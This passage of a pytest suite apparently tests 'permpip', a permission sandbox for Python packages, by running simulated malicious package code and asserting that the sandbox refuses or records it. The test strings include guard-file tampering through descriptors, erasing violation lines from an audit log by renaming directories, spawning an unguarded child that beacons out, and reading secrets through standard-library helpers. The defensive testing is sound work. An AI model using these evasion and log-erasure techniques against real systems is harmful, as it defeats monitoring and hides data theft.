    "os.unlink('sitecustomize.py', dir_fd=os.open('/proc/self/fd/%d' % fd, os.O_RDONLY))",
])
def test_the_guards_files_through_links_renames_and_descriptors(
        tmp_path: Path, run_permpip: RunPermpip, change: str) -> None:
    o = attack(tmp_path, run_permpip, GUARD_DIR + (
        "def go():\n"
        "    open('@MARKER@.new', 'w').write('forged\\n')\n"
        "    fd = os.open(_guard_dir(), os.O_RDONLY)\n"
        "    try:\n"
        f"        {change}\n"
        "        print('changed')\n"
        "    except PermissionError:\n"
        "        print('refused')\n"
        "    print('intact', sorted(os.listdir(_guard_dir())))\n"),
        grant='["fs-write", "fs-read"]', enforce=True)
    assert "changed" not in o.output and not o.marker.exists(), o.output
    assert ("intact ['__pycache__', 'events.jsonl', 'lost', 'policy.bin', 'sitecustomize.py', "
            "'written']") in o.output, o.output
    assert ("evil", "guard") in o.used


def test_renaming_an_ancestor_to_erase_the_record(tmp_path: Path, target: Target,
                                                  run_permpip: RunPermpip) -> None:
    tmpdir = tmp_path / "tmpdir"
    tmpdir.mkdir()
    o = attack(tmp_path, run_permpip, GUARD_DIR + (
        "import urllib.request\n"
        "def go():\n"
        "    try:\n"
        "        urllib.request.urlopen('@URL@').read()  # report mode: recorded\n"
        "    except OSError:\n"
        "        pass\n"
        "    g = _guard_dir()\n"
        "    parent, name = os.path.split(g)\n"
        "    moved = parent + '-moved'\n"
        "    os.rename(parent, moved)\n"
        "    path = os.path.join(moved, name, 'events.jsonl')\n"
        "    keep = [l for l in open(path).read().splitlines(True) if 'violation' not in l]\n"
        "    open(path, 'w').write(''.join(keep))\n"
        "    os.rename(moved, parent)\n"
        "    print('erased')\n"), grant='["fs-write", "fs-read"]', target=target,
        env={"TMPDIR": str(tmpdir)})
    assert target.requests == ["/beacon"]  # report mode: it ran
    assert ("evil", "network") in o.used, o.output


def test_renaming_an_ancestor_to_start_an_unguarded_child(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    tmpdir = tmp_path / "tmpdir"
    tmpdir.mkdir()
    o = attack(tmp_path, run_permpip, GUARD_DIR + (
        "import subprocess\n"
        "def go():\n"
        "    parent = os.path.dirname(_guard_dir())\n"
        "    os.rename(parent, parent + '-moved')\n"
        "    subprocess.run([sys.executable, '-c', 'import evil._payload'])\n"
        "    os.rename(parent + '-moved', parent)\n"),
        files={"evil/_payload.py": (
            "import urllib.request\n"
            "try:\n"
            "    urllib.request.urlopen('@URL@').read()\n"
            "    print('child: sent')\n"
            "except OSError as exc:\n"
            "    print('child:', type(getattr(exc, 'reason', exc)).__name__)\n")},
        grant='["fs-write", "fs-read", "subprocess"]', target=target,
        env={"TMPDIR": str(tmpdir)}, enforce=True)
    assert target.requests == [], o.output
    assert ("evil", "network") in o.used or ("evil", "guard") in o.used


def test_chmod_of_the_guards_files_through_a_descriptor(tmp_path: Path,
                                                        run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, GUARD_DIR + (
        "def go():\n"
        "    fd = os.open(os.path.join(_guard_dir(), 'sitecustomize.py'), os.O_RDONLY)\n"
        "    try:\n"
        "        os.chmod(fd, os.fstat(fd).st_mode & 0o7777)  # the same mode: harmless\n"
        "        print('changed')\n"
        "    except PermissionError:\n"
        "        print('refused')\n"), grant='["fs-write", "fs-read"]', enforce=True)
    assert "refused" in o.output, o.output
    assert ("evil", "guard") in o.used


def test_links_and_renames_relative_to_descriptors_of_its_own(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    """Precision: os.link, os.replace, os.symlink with src_dir_fd/dst_dir_fd/dir_fd in a
    directory of its own, a TemporaryDirectory's fd-based cleanup: no report."""
    o = attack(tmp_path, run_permpip, (
        "import os, tempfile\n"
        "def go():\n"
        "    os.makedirs('@MARKER@')\n"
        "    fd = os.open('@MARKER@', os.O_RDONLY)\n"
        "    os.close(os.open('a', os.O_WRONLY | os.O_CREAT, dir_fd=fd))\n"
        "    os.link('a', 'b', src_dir_fd=fd, dst_dir_fd=fd)\n"
        "    os.replace('b', 'c', src_dir_fd=fd, dst_dir_fd=fd)\n"
        "    os.symlink('c', 'd', dir_fd=fd)\n"
        "    with tempfile.TemporaryDirectory() as t:\n"
        "        os.makedirs(os.path.join(t, 'x', 'y'))\n"
        "    print(sorted(os.listdir('@MARKER@')), os.path.exists(t))\n"),
        grant='["fs-write", "fs-read"]', enforce=True)
    assert o.output.splitlines() == ["['a', 'c', 'd'] False"], o.output
    assert o.used == [] and o.code == 0


# -- 6. the standard library reading a secret for its caller, through other helpers ------------


@pytest.mark.parametrize("read", [
    "__import__('tokenize').open(S).read()",
    "__import__('runpy').run_path(S).get('TOKEN')",
])
def test_other_standard_library_readers(tmp_path: Path, run_permpip: RunPermpip,
                                        read: str) -> None:
    """Readers outside the import system's frames are judged as the caller's reads (or the
    read is refused at the write or compile they also make)."""
    secret = _secret(tmp_path, "secret.py")
    o = attack(tmp_path, run_permpip, leak(read, f"S = {str(secret)!r}\n"), enforce=True)
    assert SECRET not in o.output, o.output
    assert o.used and o.used[0][0] == "evil"
